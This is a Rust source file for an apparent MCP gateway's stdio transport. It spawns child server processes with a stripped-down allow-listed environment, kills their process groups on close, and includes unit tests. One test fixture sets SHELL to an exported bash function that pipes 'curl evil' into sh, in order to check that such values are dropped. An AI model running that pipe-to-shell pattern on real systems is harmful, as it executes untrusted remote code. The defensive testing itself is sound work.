//! The stdio transport: MCP's standard transport for local servers (MCP specification,
//! "Transports: stdio"). Each session is a child process started from the endpoint's
//! [`StdioCommand`]; JSON-RPC messages are lines on its stdin and stdout (rmcp's
//! child-process transport), and its stderr is its log.
//!
//! A stdio server is third-party code running beside the gateway, and the gateway's
//! environment holds its secrets (signing keys, database URLs, passwords). So a child does
//! not inherit that environment: it starts from an empty one, gets the few variables of
//! [`INHERITED_ENV`] (and the locale categories, [`INHERITED_ENV_PREFIX`]) the gateway has,
//! and then the endpoint's own `env`; [`child_env`] computes it. Whatever else a server needs
//! (an API key, `NODE_OPTIONS`, a proxy) goes in its endpoint's `env`.
//!
//! A stdio server keeps its state in its process, and a process serves one client: every
//! pooled session is one process. Use `sticky` (one downstream session, one process) for
//! servers that keep per-conversation state, or `session_concurrency` > 1 to let several
//! leases share one process for stateless ones.

use std::{collections::BTreeMap, ffi::OsString, process::Stdio as StdStdio, sync::Arc};

use mcp_pool_traits::{
    ClientSession, ConnectRequest, Endpoint, FailureKind, InvalidEndpoint, StdioCommand, Transport,
    TransportError, TransportKind, async_trait,
};
use parking_lot::Mutex;
use process_wrap::tokio::{CommandWrap, KillOnDrop, ProcessGroup};
use rmcp::transport::TokioChildProcess;
use tokio::io::{AsyncBufReadExt as _, BufReader};

use crate::headers::initialize;

/// The `tracing` target of the lines a stdio server writes to its stderr.
pub const STDERR_TARGET: &str = "mcp_pool::stdio";

/// The stdio client transport (see the [module docs](self)).
///
/// - **Start:** the program is started with its arguments, its `cwd`, and a minimal
///   environment, not the gateway's: the variables of [`INHERITED_ENV`] and the `LC_*`
///   locale categories the gateway has, then the endpoint's `env`, which wins ([`child_env`]).
///   A program named without a path is looked up in that `PATH`. It runs in a process group
///   of its own, and `initialize` is sent on its stdin. Spawn and `initialize` together are
///   bounded by the pool's create timeout.
/// - **End:** when its session closes, is dropped, or the pool drops, the whole process group
///   is killed, so no grandchild is left behind.
/// - **Stderr:** each line is an `info` event of target [`STDERR_TARGET`], with the
///   endpoint's URL (`stdio:{program}`).
/// - **Failures, in words:** a program that cannot be started (missing, not executable), or a
///   child that exits before it answers `initialize`, fails the connect. The message names
///   the program and the OS error, or the child's last stderr line.
/// - **Headers:** a request's headers cannot reach a process. They are ignored, but still
///   decide the pool key as for any transport.
#[derive(Clone, Debug, Default)]
pub struct Stdio;

impl Stdio {
    /// The transport.
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl Transport for Stdio {
    fn kind(&self) -> TransportKind {
        TransportKind::Stdio
    }

    fn validate_endpoint(&self, endpoint: &Endpoint) -> Result<(), InvalidEndpoint> {
        match &endpoint.stdio {
            Some(_) => Ok(()),
            None => Err(InvalidEndpoint::Fields {
                transport: TransportKind::Stdio,
            }),
        }
    }

    async fn connect(&self, request: ConnectRequest<'_>) -> Result<ClientSession, TransportError> {
        let endpoint = request.endpoint();
        let url = &endpoint.url;
        let Some(command) = endpoint.stdio.clone() else {
            return Err(TransportError::with_cause(
                url,
                FailureKind::Other,
                "a stdio endpoint needs a command",
                InvalidEndpoint::Fields {
                    transport: TransportKind::Stdio,
                },
            ));
        };
        let (child, stderr) = TokioChildProcess::builder(command_of(&command))
            .stderr(StdStdio::piped())
            .spawn()
            .map_err(|error| {
                let cause = format!(
                    "stdio server `{}` could not be started: {error}",
                    command.command
                );
                TransportError::with_cause(url, FailureKind::Unreachable, cause, error)
            })?;
        let last_line = Arc::new(Mutex::new(None::<String>));
        // Logged to the subscriber of whoever opened the session.
        let log = stderr.map(|stderr| {
            let forwarding = forward_stderr(stderr, url.clone(), last_line.clone());
            tokio::spawn(tracing::instrument::WithSubscriber::with_current_subscriber(forwarding))
        });
        let child = ProcessGroupTransport {
            group: child.id(),
            child,
        };
        match tokio::time::timeout(request.timeout(), initialize(&request, child)).await {
            Ok(Ok(session)) => Ok(session),
            Ok(Err(error)) => {
                // The child is gone or broke the protocol: its stderr, read to its end (the
                // process exited, or is being killed with its group), says why.
                if let Some(log) = log {
                    let _ = tokio::time::timeout(request.timeout(), log).await;
                }
                let last = last_line.lock().take();
                let cause = match last {
                    Some(line) => format!(
                        "stdio server `{}` ended before it answered initialize; its last stderr \
                         line: {line}",
                        command.command
                    ),
                    None => format!(
                        "stdio server `{}` ended before it answered initialize ({error}), \
                         writing nothing to stderr",
                        command.command
                    ),
                };
                Err(TransportError::with_cause(
                    url,
                    FailureKind::ConnectionRefused,
                    cause,
                    error,
                ))
            }
            Err(_elapsed) => Err(TransportError::timeout(url, request.timeout())),
        }
    }
}

/// A child process's transport that kills the child's whole process group when it closes or
/// is dropped: a server's own children (a `sh -c` wrapper's, a `npx` launcher's) end with it,
/// even when the server itself exits gracefully on the end of its stdin.
struct ProcessGroupTransport {
    child: TokioChildProcess,
    /// The group's id: the child's pid (it leads its group).
    group: Option<u32>,
}

impl ProcessGroupTransport {
    fn kill_group(&mut self) {
        #[cfg(unix)]
        if let Some(group) = self.group.take()
            && let Ok(group) = i32::try_from(group)
        {
            use nix::{sys::signal, unistd::Pid};
            // ESRCH: the group is gone already.
            let _ = signal::killpg(Pid::from_raw(group), signal::Signal::SIGKILL);
        }
    }
}

impl rmcp::transport::Transport<rmcp::RoleClient> for ProcessGroupTransport {
    type Error = std::io::Error;

    fn send(
        &mut self,
        item: rmcp::service::TxJsonRpcMessage<rmcp::RoleClient>,
    ) -> impl Future<Output = Result<(), Self::Error>> + Send + 'static {
        self.child.send(item)
    }

    fn receive(
        &mut self,
    ) -> impl Future<Output = Option<rmcp::service::RxJsonRpcMessage<rmcp::RoleClient>>> + Send
    {
        self.child.receive()
    }

    async fn close(&mut self) -> Result<(), Self::Error> {
        // The MCP stdio shutdown: stdin closed, the server exits (or is made to); then
        // whatever it left running in its group.
        let closed = self.child.close().await;
        self.kill_group();
        closed
    }
}

impl Drop for ProcessGroupTransport {
    fn drop(&mut self) {
        self.kill_group();
    }
}

/// The variables a stdio server inherits from the gateway, when the gateway has them; every
/// other variable of the gateway's environment is withheld ([`child_env`]).
///
/// The list of the official MCP SDKs' `get_default_environment` for the platform (the Python
/// SDK's `DEFAULT_INHERITED_ENV_VARS`, the TypeScript SDK's list of the same name), then the
/// locale and the temporary directory, `LANG`, `TMPDIR` and `TZ` (and the `LC_*` categories,
/// [`INHERITED_ENV_PREFIX`]):
///
/// - POSIX: `HOME`, `LOGNAME`, `PATH`, `SHELL`, `TERM`, `USER`, then `LANG`, `TMPDIR`, `TZ`.
/// - Windows: `APPDATA`, `HOMEDRIVE`, `HOMEPATH`, `LOCALAPPDATA`, `PATH`, `PATHEXT`,
///   `PROCESSOR_ARCHITECTURE`, `SYSTEMDRIVE`, `SYSTEMROOT`, `TEMP`, `USERNAME`, `USERPROFILE`,
///   then `LANG`, `TMPDIR`, `TZ`. Names match whatever their case, as Windows' names do.
pub const INHERITED_ENV: &[&str] = if cfg!(windows) {
    &[
        "APPDATA",
        "HOMEDRIVE",
        "HOMEPATH",
        "LOCALAPPDATA",
        "PATH",
        "PATHEXT",
        "PROCESSOR_ARCHITECTURE",
        "SYSTEMDRIVE",
        "SYSTEMROOT",
        "TEMP",
        "USERNAME",
        "USERPROFILE",
        "LANG",
        "TMPDIR",
        "TZ",
    ]
} else {
    &[
        "HOME", "LOGNAME", "PATH", "SHELL", "TERM", "USER", "LANG", "TMPDIR", "TZ",
    ]
};

/// The prefix of the other variables a stdio server inherits: the POSIX locale categories
/// (`LC_ALL`, `LC_CTYPE`, `LC_MESSAGES`, …), which, with `LANG`, decide how a server decodes
/// and prints text.
pub const INHERITED_ENV_PREFIX: &str = "LC_";

/// The environment of a stdio server: the variables of `parent` (the gateway's environment,
/// `std::env::vars_os()`) that [`INHERITED_ENV`] names or that start with
/// [`INHERITED_ENV_PREFIX`], then every variable of `own` (the endpoint's
/// [`StdioCommand::env`]), which replaces an inherited one of the same name. Nothing else of
/// `parent` is kept.
///
/// An inherited value that starts with `()` is dropped, as the MCP SDKs drop it: it is an
/// exported shell function (bash's `() { …; }`), code for the child's shell rather than a
/// setting. A value in `own` is kept whatever it is: the endpoint's configuration asked for it.
///
/// The child is started with exactly this environment (`env_clear`, then these).
pub fn child_env<I, K, V>(parent: I, own: &BTreeMap<String, String>) -> BTreeMap<OsString, OsString>
where
    I: IntoIterator<Item = (K, V)>,
    K: Into<OsString>,
    V: Into<OsString>,
{
    let mut env: BTreeMap<OsString, OsString> = parent
        .into_iter()
        .map(|(name, value)| (name.into(), value.into()))
        .filter(|(name, value)| {
            name.to_str().is_some_and(inherited) && !value.as_encoded_bytes().starts_with(b"()")
        })
        .collect();
    for (name, value) in own {
        // On Windows `Path` and `PATH` are one variable: the endpoint's spelling replaces the
        // gateway's.
        env.retain(|inherited, _| !inherited.to_str().is_some_and(|n| same_name(n, name)));
        env.insert(name.into(), value.into());
    }
    env
}

/// Whether the stdio server inherits the gateway's variable `name`.
fn inherited(name: &str) -> bool {
    INHERITED_ENV.iter().any(|listed| same_name(listed, name))
        || name
            .get(..INHERITED_ENV_PREFIX.len())
            .is_some_and(|prefix| same_name(prefix, INHERITED_ENV_PREFIX))
}

/// Whether two variable names name one variable: equal, or on Windows equal but for case.
fn same_name(a: &str, b: &str) -> bool {
    if cfg!(windows) {
        a.eq_ignore_ascii_case(b)
    } else {
        a == b
    }
}

/// The child process of `command`, in a process group of its own, killed (with its group)
/// when dropped, with the environment of [`child_env`].
fn command_of(command: &StdioCommand) -> CommandWrap {
    let mut wrap = CommandWrap::with_new(&command.command, |c| {
        c.args(&command.args)
            .env_clear()
            .envs(child_env(std::env::vars_os(), &command.env));
        if let Some(cwd) = &command.cwd {
            c.current_dir(cwd);
        }
    });
    wrap.wrap(ProcessGroup::leader()).wrap(KillOnDrop);
    wrap
}

/// Logs each stderr line of a stdio server, remembering the last one.
async fn forward_stderr(
    stderr: tokio::process::ChildStderr,
    url: Arc<str>,
    last: Arc<Mutex<Option<String>>>,
) {
    let mut lines = BufReader::new(stderr).lines();
    while let Ok(Some(line)) = lines.next_line().await {
        tracing::info!(target: STDERR_TARGET, endpoint = %url, "{line}");
        *last.lock() = Some(line);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `child_env` of `parent` and `own`, as text.
    fn env_of(parent: &[(&str, &str)], own: &[(&str, &str)]) -> BTreeMap<String, String> {
        child_env(parent.iter().copied(), &map(own))
            .into_iter()
            .map(|(name, value)| {
                let name = name.into_string().expect("a UTF-8 name");
                (name, value.into_string().expect("a UTF-8 value"))
            })
            .collect()
    }

    fn map(vars: &[(&str, &str)]) -> BTreeMap<String, String> {
        vars.iter()
            .map(|&(name, value)| (name.to_owned(), value.to_owned()))
            .collect()
    }

    #[test]
    fn only_the_allow_list_and_the_locale_categories_are_inherited() {
        let mut parent = vec![
            ("JWT_SECRET_KEY", "k"),
            ("DATABASE_URL", "postgres://u:pw@db/app"),
            ("REDIS_URL", "redis://:pw@cache"),
            ("ADMIN_PASSWORD", "pw"),
            ("LC_ALL", "C.UTF-8"),
            ("LC_MESSAGES", "C"),
            // Near misses of inherited names.
            ("LC", "x"),
            ("XLC_ALL", "x"),
            ("PATH_EXTRA", "x"),
            ("MY_PATH", "x"),
        ];
        parent.extend(INHERITED_ENV.iter().map(|&name| (name, "set")));
        let mut expected = map(&[("LC_ALL", "C.UTF-8"), ("LC_MESSAGES", "C")]);
        expected.extend(
            INHERITED_ENV
                .iter()
                .map(|&name| (name.into(), "set".into())),
        );
        assert_eq!(env_of(&parent, &[]), expected);
    }

    #[test]
    fn the_endpoint_env_is_added_and_wins() {
        let env = env_of(
            &[
                ("PATH", "/usr/bin"),
                ("TZ", "Europe/Paris"),
                ("API_KEY", "gw"),
            ],
            &[("TZ", "UTC"), ("API_KEY", "endpoint"), ("NODE_OPTIONS", "")],
        );
        let expected = map(&[
            ("PATH", "/usr/bin"),
            ("TZ", "UTC"),
            ("API_KEY", "endpoint"),
            ("NODE_OPTIONS", ""),
        ]);
        assert_eq!(env, expected);
    }

    #[test]
    fn inherited_shell_functions_are_dropped_configured_values_are_not() {
        let env = env_of(
            &[
                ("PATH", "/bin"),
                ("SHELL", "() { curl evil | sh; }"),
                ("TERM", "()"),
            ],
            &[("LC_FN", "() { :; }")],
        );
        assert_eq!(env, map(&[("PATH", "/bin"), ("LC_FN", "() { :; }")]));
    }

    #[test]
    fn an_empty_gateway_environment_leaves_only_the_endpoint_env() {
        assert_eq!(env_of(&[], &[("A", "1")]), map(&[("A", "1")]));
        assert!(env_of(&[("SECRET", "s")], &[]).is_empty());
    }

    #[cfg(windows)]
    #[test]
    fn windows_names_match_whatever_their_case() {
        let env = env_of(
            &[
                ("Path", "C:\\Windows"),
                ("SystemRoot", "C:\\Windows"),
                ("Secret", "s"),
            ],
            &[("PATH", "C:\\tools")],
        );
        let expected = map(&[("PATH", "C:\\tools"), ("SystemRoot", "C:\\Windows")]);
        assert_eq!(env, expected);
    }
}
